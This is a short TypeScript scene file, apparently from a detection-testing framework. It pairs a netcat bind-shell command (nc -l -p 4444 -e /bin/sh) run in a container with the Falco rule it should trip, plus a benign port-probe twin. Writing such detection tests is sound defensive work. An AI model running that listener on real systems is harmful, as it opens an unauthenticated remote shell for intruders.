import { container, scene } from '../src/scenes/scene.ts';
import { run } from '../src/scenes/steps.ts';

export default scene({
  name: 'netcat-runs-shell-in-container',
  story: 'In a container netcat hands a shell to whoever connects.',
  technique: 'T1059',
  place: container(),
  falco: ['Netcat Remote Code Execution in Container'],
  lanner: [],
  steps: [run('nc', { with: ['-l', '-p', '4444', '-e', '/bin/sh'] })],
  twin: {
    because: 'a port is tried, and nothing is run.',
    steps: [run('nc', { with: ['-z', 'localhost', '8080'] })],
  },
});
